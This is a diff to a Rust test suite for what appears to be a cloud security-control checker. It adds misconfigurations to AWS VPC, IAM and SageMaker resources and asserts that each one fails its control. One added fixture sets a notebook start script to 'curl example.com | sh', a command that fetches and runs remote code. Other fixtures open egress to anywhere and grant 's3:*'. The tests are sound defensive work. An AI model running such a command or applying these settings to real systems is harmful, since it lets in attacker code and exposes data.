@@ -183,7 +183,9 @@ const POLICY: &str = "/policy";
 const GUARDRAILS: &str = "/inline/guardrails";
 
 const TAMPERINGS: &[Tampering] = &[
-    tampering("N3", "Vpc/main", "/gateways", |it| *it = json!([{"Internet": "igw-1"}])),
+    tampering("N3", "Vpc/main", "/gateways", |it| {
+        *it = json!([{"type": "internet", "id": "igw-1"}])
+    }),
     tampering("N3", "Vpc/main", "/mainRoutes", |it| {
         *it = json!([{"destination": "0.0.0.0/0", "target": "pcx-1"}])
     }),
@@ -192,13 +194,19 @@ const TAMPERINGS: &[Tampering] = &[
     }),
     tampering("N3", "RouteTable/private", "/propagation", |it| *it = json!(["vgw-1"])),
     tampering("N4", "SecurityGroupRules/sagemaker", "/egress", |it| {
-        let anywhere = json!({"protocol": "-1", "peer": {"Cidr": "0.0.0.0/0"}});
+        let anywhere = json!({"protocol": "-1", "peer": {"cidr": "0.0.0.0/0"}});
         it.as_array_mut().expect("rules").push(anywhere);
     }),
+    tampering("N3", "Subnet/a", "/routeTable", |it| *it = json!("rtb-mine")),
+    tampering("N3", "RouteTable/private", "/strangers", |it| {
+        *it = json!([{"target": "subnet-mine", "association": "rtbassoc-1"}]);
+    }),
+    tampering("N4", "VpcEndpoint/kms", "/groups", |it| *it = json!(["sg-mine"])),
     tampering("EC2.2", "Vpc/main", "/defaultGroup/egress", |it| {
-        *it = json!([{"protocol": "-1", "peer": {"Cidr": "0.0.0.0/0"}}]);
+        *it = json!([{"protocol": "-1", "peer": {"cidr": "0.0.0.0/0"}}]);
     }),
     tampering("EC2.6", "FlowLog/vpc", "/trafficType", |it| *it = json!("REJECT")),
+    tampering("EC2.6", "LogGroup/vpc-flow-logs", "/key", |it| *it = Value::Null),
     tampering("EC2.10", "VpcEndpoint/ec2", "/privateDns", |it| *it = json!(false)),
     tampering("EC2.15", "Subnet/a", "/mapPublicIpOnLaunch", |it| *it = json!(true)),
     tampering("E5", "VpcEndpoint/s3", POLICY, open),
@@ -207,6 +215,9 @@ const TAMPERINGS: &[Tampering] = &[
     tampering("IAM.21", CODE, GUARDRAILS, |it| {
         let all = json!({"Sid": "All", "Effect": "Allow", "Action": "s3:*", "Resource": "*"});
         it["Statement"].as_array_mut().expect("statements").push(all);
+    }),
+    tampering("I3", "Notebook/ana", "/roleArn", |it| {
+        *it = json!("arn:aws:iam::111122223333:role/mine")
     }),
     tampering("I3", "IamRole/admin", "/trust", open),
     tampering("I3", CODE, "/trust", |it| unconditional(it, "Service")),
@@ -243,6 +254,9 @@ const TAMPERINGS: &[Tampering] = &[
         unconditional(it, "Notebook")
     }),
     tampering("I11", "Notebook/ana", "/lifecycleConfig", |it| *it = json!("mine")),
+    tampering("I11", "LifecycleConfig/notebook", "/onStart", |it| {
+        *it = json!("curl example.com | sh")
+    }),
     tampering("SageMaker.5", BOUNDARY, DOCUMENT, |it| unconditional(it, "Model")),
     tampering("I13", BOUNDARY, DOCUMENT, |it| unconditional(it, "Jobs")),
     tampering("I15", BOUNDARY, DOCUMENT, open),
@@ -319,7 +333,10 @@ fn what_somebody_changed_breaks_the_promise_that_it_is_about() {
         let verdicts = [Preset::Standard, Preset::Strict].map(|preset| {
             let mut environment = Environment::built(preset);
             environment.tamper(node, at, tampering.change);
-            environment.check(control).verdict()
+            let check = environment.check(control);
+            let gone = check.findings().iter().find(|finding| finding.evidence == "it is gone");
+            assert!(gone.is_none(), "{breaks}: {gone:?}: what {at} became cannot be read");
+            check.verdict()
         });
         let verdict = verdicts.into_iter().find(|verdict| *verdict != Verdict::NotApplicable);
         if verdict != Some(Verdict::Fail) {
